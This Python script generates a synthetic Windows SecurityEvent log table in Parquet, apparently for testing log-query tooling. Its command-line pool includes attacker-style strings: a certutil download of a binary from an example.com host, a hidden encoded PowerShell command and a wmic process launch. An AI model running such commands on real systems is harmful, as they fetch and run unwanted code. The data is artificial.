"""A SecurityEvent table as Parquet: 30 days, sorted by time, with the skew and the text of real exports.

    python generate.py OUT.parquet [ROWS]

Strings are built in Arrow from pools of distinct values, so that 10 M rows take about a minute.
"""

import sys

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq

ROWS_PER_BATCH = 500_000
START = np.datetime64("2026-10-01T00:00:00", "us")
DAYS = 30

EVENTS = [(4688, 0.40), (4624, 0.25), (4625, 0.05), (4672, 0.08), (5140, 0.10), (4634, 0.10), (4648, 0.02)]
PROGRAMS = [
    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s {}",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -File C:\\scripts\\job_{}.ps1",
    "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA{}",
    "cmd.exe /c net use \\\\fileserver{}\\share$ /persistent:no",
    "C:\\Windows\\System32\\rundll32.exe shell32.dll,Control_RunDLL item{}.cpl",
    "C:\\Program Files\\Vendor\\Agent\\agent.exe --poll --interval 60 --tenant {}",
    "certutil.exe -urlcache -split -f http://cdn{}.example.com/update.bin C:\\Users\\Public\\u.bin",
    "C:\\Windows\\System32\\conhost.exe 0xffffffff -ForceV1 #{}",
    "wmic.exe process call create notepad{}.exe",
    "C:\\Windows\\explorer.exe /factory,{{75dff2b7-6936-4c06-a8bb-676a7b00b24b}} -Embedding {}",
]
WEIGHTS = [0.30, 0.12, 0.01, 0.12, 0.10, 0.20, 0.005, 0.12, 0.005, 0.02]
PRIVILEGES = ["SeSecurityPrivilege", "SeBackupPrivilege", "SeRestorePrivilege", "SeDebugPrivilege",
              "SeTakeOwnershipPrivilege", "SeLoadDriverPrivilege", "SeImpersonatePrivilege", "SeTcbPrivilege"]
STATUS = ["0xC000006A", "0xC0000064", "0xC0000234", "0xC0000072", "0x0"]


def pool(texts):
    return pa.array(texts, pa.string())


def skewed(draw, distinct, count):
    """Few values take most rows, as computers and accounts do."""
    return pa.array((draw.random(count) ** 2.5 * distinct).astype(np.int32))


def command_lines(draw, distinct=200_000):
    kinds = draw.choice(len(PROGRAMS), distinct, p=np.array(WEIGHTS) / sum(WEIGHTS))
    return pool([PROGRAMS[kind].format(number) for number, kind in enumerate(kinds)])


def privilege_lists(draw, distinct=400):
    lists = []
    for _ in range(distinct):
        chosen = draw.choice(PRIVILEGES, draw.integers(1, len(PRIVILEGES)), replace=False)
        lists.append("[" + ",".join(f'"{name}"' for name in chosen) + "]")
    return pool(lists)


def batches(rows, seed=20261001):
    draw = np.random.default_rng(seed)
    computers = pool([f"HOST{number:05d}.contoso.com" for number in range(2_000)])
    accounts = pool([f"CONTOSO\\user{number:05d}" for number in range(20_000)])
    addresses = pool([f"10.{n >> 16 & 255}.{n >> 8 & 255}.{n & 255}" for n in range(50_000)])
    commands, privileges, status = command_lines(draw), privilege_lists(draw), pool(STATUS)
    shares = pool([f"\\\\*\\share{number}" for number in range(300)])
    events = np.array([event for event, _ in EVENTS], np.int32)
    odds = np.array([share for _, share in EVENTS])
    span = DAYS * 86_400_000_000
    for start in range(0, rows, ROWS_PER_BATCH):
        count = min(ROWS_PER_BATCH, rows - start)
        step = span / rows
        offsets = ((np.arange(start, start + count) + draw.random(count)) * step).astype(np.int64)
        event = events[draw.choice(len(events), count, p=odds / odds.sum())]
        only = lambda values, wanted: pc.if_else(pa.array(event == wanted), values, pa.scalar("", pa.string()))
        address = addresses.take(skewed(draw, len(addresses), count))
        port = pa.array(draw.integers(1024, 65535, count).astype(np.int32)).cast(pa.string())
        session = pa.array(draw.integers(0, 1 << 31, count)).cast(pa.string())
        failed = status.take(pa.array(draw.integers(0, len(STATUS), count).astype(np.int32)))
        message = pc.binary_join_element_wise(
            "Logon from ", address, " port ", port, " session ", session, " status ", failed, "")
        yield pa.table({
            "TimeGenerated": pa.array(START + offsets),
            "Computer": computers.take(skewed(draw, len(computers), count)),
            "Account": accounts.take(skewed(draw, len(accounts), count)),
            "EventID": pa.array(event),
            "LogonType": pa.array(draw.choice([2, 3, 5, 10], count, p=[0.1, 0.6, 0.25, 0.05]).astype(np.int32)),
            "IpAddress": address,
            "CommandLine": only(commands.take(skewed(draw, len(commands), count)), 4688),
            "ShareName": only(shares.take(skewed(draw, len(shares), count)), 5140),
            "PrivilegeList": only(privileges.take(skewed(draw, len(privileges), count)), 4672),
            "Message": pc.if_else(pa.array(np.isin(event, [4624, 4625])), message, pa.scalar("", pa.string())),
        })


def main():
    path, rows = sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 10_000_000
    writer = None
    for table in batches(rows):
        writer = writer or pq.ParquetWriter(path, table.schema, compression="zstd")
        writer.write_table(table, row_group_size=250_000)
    writer.close()


if __name__ == "__main__":
    main()
